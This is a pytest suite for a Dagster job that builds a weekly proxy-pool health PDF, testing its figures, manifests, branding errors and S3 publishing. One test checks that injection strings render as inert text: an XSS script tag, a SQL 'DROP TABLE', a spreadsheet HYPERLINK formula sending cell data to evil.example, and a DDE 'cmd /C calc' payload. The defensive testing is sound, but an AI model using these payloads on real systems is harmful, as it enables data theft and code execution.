"""``health_report``: a PDF that opens, with the week's numbers recomputed from the source."""

from __future__ import annotations

import hashlib
import io
import json
import re
import sqlite3
import uuid
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from dagster import DagsterInstance, materialize
from pypdf import PdfReader

from export_assets.defs.operations.failures import error_message, user_error
from export_assets.defs.reports import REPORT_ASSETS
from export_assets.defs.reports.health_report import health_report
from export_assets.defs.resources.store import ExportStore
from export_assets.lib.exports.readers import count_rows
from export_assets.lib.reports.pdf import (
    Branding,
    count,
    milliseconds,
    percent,
    render_health_report,
)
from export_assets.lib.reports.window import week_figures
from export_assets.lib.sample import SampleDeployment
from export_assets.lib.sample.hostile import HOSTILE_STRINGS
from export_assets.lib.source.database import SourceSnapshot
from export_assets_tests.conftest import configured, export_resources, request_config, requested
from export_assets_tests.handmade import HandmadeDatabase
from export_assets_tests.s3_server import MotoServer
from export_assets_tests.weekly_reports import (  # noqa: F401 (a fixture)
    EXPORTED_DAYS,
    REPORT_DAY,
    PublishedWeek,
    expected_period,
    published,
    published_week,
    sample_keys,
)


def pdf_text(data: bytes) -> tuple[int, list[str]]:
    """Pages and each page's text, whitespace collapsed, read by pypdf."""
    reader = PdfReader(io.BytesIO(data))
    return len(reader.pages), [" ".join(page.extract_text().split()) for page in reader.pages]


def test_report_is_published_like_every_export(published_week: PublishedWeek) -> None:  # noqa: F811
    path, manifest = published(published_week.exports, "health_report", REPORT_DAY, ".pdf")
    data = path.read_bytes()
    pages, _ = pdf_text(data)
    assert manifest["format"] == "pdf"
    assert manifest["compression"] == "none"
    assert manifest["files"] == [
        {
            "path": path.name,
            "bytes": len(data),
            "sha256": hashlib.sha256(data).hexdigest(),
            "rows": pages,
        }
    ]
    assert count_rows("pdf", "none", io.BytesIO(data)) == pages
    assert published_week.result_checks
    assert all(published_week.result_checks)


def test_summary_page_holds_the_numbers_of_the_source(published_week: PublishedWeek) -> None:  # noqa: F811
    path, _ = published(published_week.exports, "health_report", REPORT_DAY, ".pdf")
    pages, texts = pdf_text(path.read_bytes())
    assert pages == 4  # summary, charts, rankings, rankings with provenance
    first = texts[0]
    now = expected_period(published_week.database, REPORT_DAY - timedelta(days=6), REPORT_DAY)
    before = expected_period(
        published_week.database, REPORT_DAY - timedelta(days=13), REPORT_DAY - timedelta(days=7)
    )
    assert now.checks > 0
    assert now.p50 is not None  # the sample has checks in the week
    assert "Weekly proxy pool health" in first
    assert "14 Nov 2026 – 20 Nov 2026 (UTC)" in first
    assert f"Pool size (end of period) {count(now.pool)} {count(before.pool)} " in first
    for status, share in now.statuses.items():
        assert (
            f"{status.capitalize()} proxies (share) {count(share)} "
            f"({percent(share / now.pool)})" in first
        )
    assert f"New proxies {count(now.new)} {count(before.new)}" in first
    assert f"Checks run {count(now.checks)} {count(before.checks)}" in first
    assert f"Success rate {percent(now.successes / now.checks)}" in first
    assert f"Median latency {milliseconds(now.p50)}" in first
    assert f"p95 latency {milliseconds(now.p95)}" in first
    assert "Page 1 of 4" in first
    assert "Page 4 of 4" in texts[3]


def test_report_records_the_proxy_metrics_manifests(published_week: PublishedWeek) -> None:  # noqa: F811
    _, manifest = published(published_week.exports, "health_report", REPORT_DAY, ".pdf")
    path, _ = published(published_week.exports, "health_report", REPORT_DAY, ".pdf")
    _, texts = pdf_text(path.read_bytes())
    recorded = manifest["source"]["proxy_metrics_manifests"]  # type: ignore[index]
    for offset in range(7):
        day = REPORT_DAY - timedelta(days=offset)
        folder = published_week.exports / "proxy_metrics" / f"dt={day.isoformat()}"
        if day in EXPORTED_DAYS:
            digest = hashlib.sha256((folder / "_manifest.json").read_bytes()).hexdigest()
            assert recorded[day.isoformat()] == digest
            assert digest in texts[-1]
        else:
            assert recorded[day.isoformat()] is None
    assert "Built from 3 of 7 daily proxy_metrics exports" in texts[0]
    assert texts[-1].count("no export: computed from the source") == 4


def test_charts_and_tables_are_there(published_week: PublishedWeek) -> None:  # noqa: F811
    path, _ = published(published_week.exports, "health_report", REPORT_DAY, ".pdf")
    _, texts = pdf_text(path.read_bytes())
    every = " ".join(texts)
    for title in (
        "Availability",
        "Latency distribution",
        "Failures by error type",
        "Pool composition",
        "By protocol",
        "By country",
        "Most reliable proxies",
        "Least reliable proxies",
        "Most frequent error messages",
        "Sources ranked by health",
        "Where these numbers come from",
    ):
        assert title in every, title
    # Top/bottom tables hold at most 10 ranked proxies each.
    ranks = re.findall(r"(?:^| )(\d{1,2}) (?:https?|socks[45])://", texts[2])
    assert 1 <= len(ranks) <= 20
    assert max(map(int, ranks)) <= 10


def handmade_resources(database: Path, exports: Path) -> dict[str, Any]:
    """The resources for a handmade deployment: its database, and no config beside it (not
    the default ./data/proxywhirl/proxywhirl.toml, another deployment's)."""
    return export_resources(database, exports, config_path=str(database.parent / "proxywhirl.toml"))


def hostile_database(path: Path) -> Path:
    """Proxies whose source and failure messages are the sample's hostile strings."""
    with HandmadeDatabase(path) as db:
        for n, text in enumerate(HOSTILE_STRINGS):
            url = f"http://10.0.0.{n + 1}:8080"
            db.add_proxy(url, source=text[:200])
            for hour in range(3):
                db.add_check(url, f"2026-11-20 0{hour}:00:00.000000", False, None, "timeout", text)
            db.add_check(url, "2026-11-20 05:00:00.000000", True, 100.0 + n)
    return path


def test_hostile_strings_render_as_text(tmp_path: Path, instance: DagsterInstance) -> None:
    database = hostile_database(tmp_path / "proxies.db")
    exports = tmp_path / "exports"
    result = materialize(
        [configured(health_report, {"min_checks": 1})],
        partition_key="2026-11-20",
        instance=instance,
        resources=handmade_resources(database, exports),
    )
    assert result.success
    assert all(e.passed for e in result.get_asset_check_evaluations())
    path, _ = published(exports, "health_report", date(2026, 11, 20), ".pdf")
    _, texts = pdf_text(path.read_bytes())
    every = " ".join(texts)
    for shown in (
        "</script><script>alert('x')</script>",
        "'; DROP TABLE proxy_identities; --",
        "O'Brien said \"it's a 'proxy'\"",
        '=HYPERLINK("http://evil.example/steal?d="&A1',
        "C:\\Users\\proxy\\new\\table\\x41.txt",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ):
        assert shown in every, shown
    # Control characters never reach the PDF's text; long messages are truncated.
    assert "\x1b" not in every
    assert "\x07" not in every
    assert "long-value:0000|" in every
    assert "1023|" not in every


def test_an_empty_week_says_so(tmp_path: Path, instance: DagsterInstance) -> None:
    with HandmadeDatabase(tmp_path / "proxies.db"):
        pass
    exports = tmp_path / "exports"
    result = materialize(
        [health_report],
        partition_key="2026-11-20",
        instance=instance,
        resources=handmade_resources(tmp_path / "proxies.db", exports),
    )
    assert result.success
    path, manifest = published(exports, "health_report", date(2026, 11, 20), ".pdf")
    pages, texts = pdf_text(path.read_bytes())
    assert pages == manifest["total_rows"]
    assert pages >= 1
    assert "No proxies and no checks were recorded between 14 Nov 2026 and 20 Nov 2026" in texts[0]
    assert "Checks run 0 0 +0" in texts[0]
    assert "Success rate – – –" in texts[0]


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"accent_color": "blue"}, "accent_color 'blue' is not a colour: write it as #RRGGBB"),
        (
            {"logo_path": "/nonexistent/logo.png"},
            "logo_path '/nonexistent/logo.png' is not a file: point it at a PNG or JPEG image, or "
            "leave it unset for no logo; nothing was written",
        ),
    ],
)
def test_bad_branding_is_a_clear_error_and_writes_nothing(
    tmp_path: Path,
    instance: DagsterInstance,
    config: dict[str, str],
    message: str,
) -> None:
    database = hostile_database(tmp_path / "proxies.db")
    exports = tmp_path / "exports"
    result = materialize(
        [requested(health_report)],
        partition_key="2026-11-20",
        instance=instance,
        resources=handmade_resources(database, exports),
        raise_on_error=False,
        run_config=request_config(health_report, config),
    )
    assert not result.success
    failure = result.get_step_failure_events()[0].step_failure_data.error
    assert failure is not None
    assert message in error_message(user_error(failure))
    assert not exports.exists() or not any(p.is_file() for p in exports.rglob("*"))


def test_a_logo_that_is_not_an_image_is_refused(tmp_path: Path, instance: DagsterInstance) -> None:
    logo = tmp_path / "logo.png"
    logo.write_text("not an image")
    database = hostile_database(tmp_path / "proxies.db")
    exports = tmp_path / "exports"
    result = materialize(
        [requested(health_report)],
        partition_key="2026-11-20",
        instance=instance,
        resources=handmade_resources(database, exports),
        raise_on_error=False,
        run_config=request_config(health_report, {"logo_path": str(logo)}),
    )
    assert not result.success
    failure = result.get_step_failure_events()[0].step_failure_data.error
    assert failure is not None
    assert f"logo_path '{logo}' is not a readable PNG or JPEG image" in error_message(
        user_error(failure)
    )
    assert not exports.exists() or not any(p.is_file() for p in exports.rglob("*"))


def big_pool(path: Path, proxies: int, end: date) -> None:
    """``proxies`` proxies in 40 sources and 30 countries, two checks each in the week."""
    with HandmadeDatabase(path) as db:
        db.connection.executemany(
            "INSERT INTO proxy_identities (url, protocol, host, port, country_code,"
            " is_residential, is_datacenter, source, discovered_at)"
            " VALUES (?, ?, ?, ?, ?, 0, 1, ?, ?)",
            (
                (
                    f"http://10.{n >> 16}.{(n >> 8) & 255}.{n & 255}:8080",
                    "http",
                    f"10.{n >> 16}.{(n >> 8) & 255}.{n & 255}",
                    8080,
                    f"C{n % 30}",
                    f"source-{n % 40}",
                    "2026-10-01 00:00:00.000000",
                )
                for n in range(proxies)
            ),
        )
        db.connection.executemany(
            "INSERT INTO validation_results (proxy_url, validated_at, is_valid, response_time_ms,"
            " error_type, error_message) VALUES (?, ?, ?, ?, ?, ?)",
            (
                (
                    f"http://10.{n >> 16}.{(n >> 8) & 255}.{n & 255}:8080",
                    f"{end - timedelta(days=(n + k) % 7)} 0{k}:00:00.000000",
                    (n + k) % 5 != 0,
                    None if (n + k) % 5 == 0 else float(50 + (n * 7 + k) % 2000),
                    "timeout" if (n + k) % 5 == 0 else None,
                    f"timed out after {n % 13} s" if (n + k) % 5 == 0 else None,
                )
                for n in range(proxies)
                for k in range(2)
            ),
        )


@pytest.mark.slow  # a 100,000-proxy pool rendered: ~25 s
def test_a_pool_of_100k_proxies_keeps_the_report_bounded(tmp_path: Path) -> None:
    end = date(2026, 11, 20)
    database = tmp_path / "proxies.db"
    big_pool(database, 100_000, end)
    with SourceSnapshot(database, busy_timeout_ms=1000, batch_rows=65_536) as snapshot:
        week = week_figures(snapshot, end, min_checks=2)
    assert week.current.pool == 100_000
    assert week.current.checks == 200_000
    assert len(week.top) == len(week.bottom) == 10
    assert len(week.errors) == 10
    assert len(week.sources) == 15
    assert week.sources_total == 40
    assert len(week.countries) == 10  # nine countries
    assert "(other)"
    content, pages = render_health_report(week, [], Branding())
    assert pages == 4
    with sqlite3.connect(database) as connection:
        successes = connection.execute("SELECT sum(is_valid) FROM validation_results").fetchone()[0]
    connection.close()
    assert f"Success rate {percent(successes / 200_000)}" in pdf_text(content)[1][0]
    assert json.dumps(week.current.statuses)  # plain numbers


def test_reports_are_published_to_s3(
    sample_deployment: SampleDeployment, moto_server: MotoServer, instance: DagsterInstance
) -> None:
    client = moto_server.client()
    bucket = f"reports-{uuid.uuid4().hex[:12]}"
    client.create_bucket(Bucket=bucket)
    store = ExportStore(destination=f"s3://{bucket}/weekly", s3=moto_server.resource())
    resources = export_resources(
        sample_deployment.database,
        "",
        store=store,
        config_path=str(sample_deployment.config_path),
    )
    with sample_keys(sample_deployment):
        result = materialize(
            REPORT_ASSETS,
            partition_key=REPORT_DAY.isoformat(),
            instance=instance,
            resources=resources,
        )
    assert result.success
    evaluations = result.get_asset_check_evaluations()
    assert len(evaluations) == 4  # each report: export_is_intact, no_credential_leak
    assert all(e.passed for e in evaluations)
    for asset, extension in (("health_report", "pdf"), ("analytics_workbook", "xlsx")):
        folder = f"weekly/{asset}/dt={REPORT_DAY.isoformat()}"
        manifest = json.loads(
            client.get_object(Bucket=bucket, Key=f"{folder}/_manifest.json")["Body"].read()
        )
        data = client.get_object(
            Bucket=bucket, Key=f"{folder}/{asset}-{REPORT_DAY.isoformat()}.{extension}"
        )["Body"].read()
        assert manifest["files"][0]["sha256"] == hashlib.sha256(data).hexdigest()
        assert count_rows(extension, "none", io.BytesIO(data)) == manifest["total_rows"] > 0  # type: ignore[arg-type]
